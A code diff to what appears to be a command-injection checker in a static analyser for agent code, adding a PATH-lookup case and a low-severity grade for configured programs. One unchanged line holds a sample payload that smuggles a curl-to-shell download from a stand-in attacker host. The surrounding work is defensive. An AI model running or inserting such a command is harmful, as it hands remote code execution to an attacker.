@@ -2,8 +2,8 @@
 import { classifyCommand } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
 import type { FileFacts, Value } from '../facts.js';
-import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, unknown } from '../values.js';
-import { calleeText, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
+import { constant, constString, dictGet, fillHoleMarkers, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
+import { calleeText, configuredValue, fillHoles, notAllowlisted, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -26,12 +26,13 @@ function listItems(v: Value | undefined): Value[] | undefined {
 /** The interpreter running the agent itself: a known program, not a dynamic one. */
 const RUNNING_INTERPRETER: Record<string, string> = { 'sys.executable': 'python3', 'process.execPath': 'node', 'process.argv0': 'node' };
 
-/** Lookups of a program on PATH: `shutil.which("uv")` is `uv`, wherever it is installed. */
+/** Lookups of a program on PATH: `shutil.which("uv")` is `uv`, wherever it is installed (also Ansible's `get_bin_path("git")`). */
 const WHICH = new Set(['shutil.which()', 'which()', 'which.sync()']);
+const isWhich = (ref: string) => WHICH.has(ref) || /(?:^|\.)get_bin_path\(\)$/.test(ref);
 
 function knownProgram(v: Value | undefined, facts?: FileFacts): Value | undefined {
   if (v && v.kind === 'unknown' && v.ref && RUNNING_INTERPRETER[v.ref] && !v.taint?.length) return constant(RUNNING_INTERPRETER[v.ref]!);
-  if (facts && v && v.kind === 'unknown' && v.ref && WHICH.has(v.ref) && !v.taint?.length) {
+  if (facts && v && v.kind === 'unknown' && v.ref && isWhich(v.ref) && !v.taint?.length) {
     // the value does not say which lookup made it: when every lookup of the file names one constant program, it is that one
     const names = new Set(facts.calls.filter((c) => c.callee + '()' === v.ref).map((c) => constString(c.args[0])));
     if (names.size === 1 && !names.has(undefined)) return constant([...names][0]!);
@@ -171,6 +172,14 @@ export const commandDynamic: Check = {
       const taints = notAllowlisted(ctx, shape.program);
       // checked against a collection of the program's own values (`if prog not in allowed: raise`)
       if (!taints.length && ctx.untrusted(shape.program).length) return undefined;
+      // the program comes from the settings the object was made with (an MCP client's server command): by design
+      if (!taints.length && taintOf(shape.program).length && configuredValue(shape.program)) {
+        return {
+          message: `\`${callee}\` starts a program named by the settings the object was made with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
+          severity: 'low',
+          action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
+        };
+      }
       return {
         message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
         severity: severityForTaint(taints, ctx.rule.severity),
